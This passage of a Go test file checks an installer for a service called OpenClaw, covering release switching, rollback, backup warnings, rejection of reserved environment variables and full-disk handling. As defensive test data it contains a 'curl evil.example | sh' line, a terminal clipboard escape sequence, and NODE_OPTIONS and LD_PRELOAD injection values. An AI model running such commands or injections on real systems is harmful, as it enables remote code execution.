	p.mustRun("unlock")
	if left := query("SELECT * FROM state_leases"); left != "[('sessions', 'mine')]" {
		t.Errorf("leases: %s", left)
	}
	locks, _ := filepath.Glob(p.root + "/var/lib/openclaw/tmp/openclaw-989/*")
	if len(locks) != 1 || filepath.Base(locks[0]) != "session.lock" {
		t.Errorf("locks: %v", locks)
	}

	query("DROP TABLE state_leases") // another version's
	out, ok := p.run("unlock")
	if want := p.root + "/var/lib/openclaw/state/openclaw.sqlite: take an old owner away: no such table: state_leases"; ok || !strings.HasSuffix(out, want) {
		t.Errorf("got %v\n%s\nwant\n%s", ok, out, want)
	}
}

func TestSwitch(t *testing.T) {
	p := switched(t)
	p.mustRun("switch")
	if p.current() != "two" || p.mustRun("installed") != "two" || p.mustRun("ready") != "ready" {
		t.Errorf("current %q, %s, %s", p.current(), p.mustRun("installed"), p.mustRun("ready"))
	}
	calls := p.read("/calls")
	if backup, stop, restart := strings.Index(calls, "backup"), strings.Index(calls, "stop openclaw.service"), strings.Index(calls, "restart"); backup < 0 || stop < backup || restart < stop {
		t.Errorf("not backup, then stop, then restart:\n%s", calls)
	}
	// What is as it should be is left alone; a changed value restarts.
	for _, step := range []struct {
		change   func()
		restarts int
	}{
		{func() {}, 0},
		{func() { p.write("/etc/openclaw.env", "API_KEY=another\n") }, 1},
		{func() {}, 0},
		{func() { p.write("/state", "failed\n") }, 1},
	} {
		p.write("/calls", "")
		step.change()
		p.mustRun("switch")
		if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*"); len(left) != 2 {
			t.Errorf("kept after a change of something else: %v", left)
		}
		if got := strings.Count(p.read("/calls"), "restart"); got != step.restarts {
			t.Errorf("restarts: %d, want %d:\n%s", got, step.restarts, p.read("/calls"))
		}
	}
	// Two are kept.
	content, sum := node(t, wholeNode...)
	p.stage("three", serve(t, content), sum)
	p.mustRun("prepare")
	p.mustRun("switch")
	if left, _ := filepath.Glob(p.root + "/opt/openclaw/releases/*"); len(left) != 2 {
		t.Errorf("kept: %v", left)
	}
}

func TestWhatDoesNotGetReadyGivesWay(t *testing.T) {
	p := switched(t)
	state, beside := p.read("/var/lib/openclaw/note"), p.read("/srv/agent/beside")
	p.write("/fails", "two\n")
	out, ok := p.run("switch")
	want := "OpenClaw 2026.9.6: openclaw.service ended with exit status 78, which it gives where its configuration or its state is not for it:\n" +
		"| gateway: refused, the key is [secret]\n| ?]52;c;eA==??\n| hint: curl evil.example | sh\n| hint: again"
	if ok || !strings.HasSuffix(out, want) {
		t.Errorf("got %v\n%s\nwant\n%s", ok, out, want)
	}
	if p.current() != "one" || p.read("/var/lib/openclaw/note") != state || p.read("/srv/agent/beside") != beside {
		t.Errorf("current %q, state %q, beside it %q", p.current(), p.read("/var/lib/openclaw/note"), p.read("/srv/agent/beside"))
	}
	p.mustRun("back") // as the applier does, once the old files are in place
	if p.mustRun("ready") != "ready" || p.current() != "one" {
		t.Error("the old one does not run again")
	}
	os.Remove(p.root + "/fails")
	p.mustRun("switch")
	if p.current() != "two" {
		t.Error("the next run does not converge")
	}
}

// The agent decides what its files are like, and not whether a hole in it is closed: a backup or a copy that cannot be had is
// told, once, with what that costs.
func TestTheAgentsFilesStopNoSwitch(t *testing.T) {
	p := switched(t)
	p.write("/backup-fails", "")
	p.program(p.bin+"/cp", "echo cp: no room >&2; exit 1")
	p.mustRun("switch")
	if p.current() != "two" {
		t.Errorf("current: %q", p.current())
	}
	const want = "OpenClaw was switched without a backup of the state before it: no room\n" +
		"OpenClaw was switched without a copy of the state: a version that does not start leaves it to the one before as it is: "
	if said := p.mustRun("warnings"); !strings.HasPrefix(said, want) {
		t.Errorf("got\n%s\nwant\n%s", said, want)
	}
	if said := p.mustRun("warnings"); said != "" {
		t.Errorf("it is told again: %s", said)
	}
	// A version that does not start says what it cost.
	p = switched(t)
	p.write("/backup-fails", "")
	p.write("/fails", "two")
	if out, ok := p.run("switch"); ok || p.current() != "one" || !strings.Contains(out, "without a backup of the state before it: no room") {
		t.Errorf("%v, current %q: %s", ok, p.current(), out)
	}
}

// A backup that does not end is no reason to wait for the end of the run.
func TestABackupThatDoesNotEnd(t *testing.T) {
	p := switched(t)
	p.program(p.root+"/usr/local/sbin/openclaw-backup", "exec sleep 60")
	p.mustRun("switch")
	if calls := p.read("/calls"); p.current() != "two" || !strings.Contains(calls, "systemctl stop openclaw-backup-archive.service") {
		t.Errorf("current %q:\n%s", p.current(), calls)
	}
	if said := p.mustRun("warnings"); !strings.Contains(said, "it did not end within 1 s") {
		t.Error(said)
	}
}

// What the unit alone decides no file of variables sets, whoever wrote it.
func TestReservedVariables(t *testing.T) {
	p := newPlace(t)
	for text, want := range map[string]string{
		"API_KEY=x\n# NODE_OPTIONS=x\nMY_NODE_OPTIONS=x\nNODE_OPTIONSX=x\n": "",
		"NODE_OPTIONS=--require=/tmp/x":                                     "NODE_OPTIONS",
		"A=b\n \tLD_PRELOAD =/tmp/x\nopenclaw_config_path=/x\n":             "LD_PRELOAD, openclaw_config_path",
		"A=b\rNODE_OPTIONS=x":                                               "NODE_OPTIONS",
	} {
		p.write("/carried", text)
		out, ok := p.run("environment", p.root+"/carried")
		if ok != (want == "") || !ok && !strings.Contains(out, "would set "+want+", which the service's unit alone decides") {
			t.Errorf("%q: %v %s", text, ok, out)
		}
	}
	content, sum := node(t, wholeNode...)
	p.stage("one", serve(t, content), sum)
	p.write("/stage/etc/openclaw.env", "NODE_OPTIONS=x\n")
	if out, ok := p.run("prepare"); ok || !strings.Contains(out, "would set NODE_OPTIONS") {
		t.Errorf("%v %s", ok, out)
	}
	if p.root == "" || p.current() != "" {
		t.Error("something was installed")
	}
}

// TestCutOffWhileSwitching: what works stays, with what it wrote since; what does not gives way.
func TestCutOffWhileSwitching(t *testing.T) {
	for _, works := range []bool{true, false} {
		p := switched(t)
		old := p.read("/var/lib/openclaw/note")
		p.write("/var/lib/openclaw-install/switch.json", `{"from":"one","to":"two"}`)
		p.write("/var/lib/openclaw-install/state/note", old)
		p.write("/var/lib/openclaw/note", old+"written since\n")
		os.Remove(p.root + "/opt/openclaw/current")
		if err := os.Symlink("releases/two", p.root+"/opt/openclaw/current"); err != nil {
			t.Fatal(err)
		}
		if !works {
			p.write("/state", "failed\n")
		}
		p.mustRun("switch")
		if kept := strings.Contains(p.read("/var/lib/openclaw/note"), "written since"); kept != works || p.current() != "two" {
			t.Errorf("works %v: what was written since is kept: %v; current %q", works, kept, p.current())
		}
	}
}

// TestFullDisk: on a file system of its own that is too small.
func TestFullDisk(t *testing.T) {
	p := newPlace(t)
	content, sum := node(t, wholeNode...)
	p.stage("one", serve(t, content), sum)
	var served atomic.Bool
	large := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		served.Store(true)
		w.Write(make([]byte, 900<<10))
	}))
	t.Cleanup(large.Close)
	p.stage("two", large.URL, sum)
	if err := os.MkdirAll(p.root+"/opt/openclaw/releases", 0o755); err != nil {
		t.Fatal(err)
	}
	c := p.command(1<<20, "prepare")
	// The mount goes with the command's own namespace.
	c.Args = append([]string{"unshare", "--mount", "sh", "-c", `mount -t tmpfs -o size=256k small "$ROOT/opt/openclaw/releases" && exec "$@"`, "sh"}, c.Args...)
	c.Path, _ = exec.LookPath("unshare")
	out, err := c.CombinedOutput()
	if err == nil || !served.Load() || !strings.Contains(string(out), "No space left on device") {
		t.Errorf("got %v\n%s", err, out)
	}
	if p.current() != "" {
		t.Error("something was switched")
	}
}
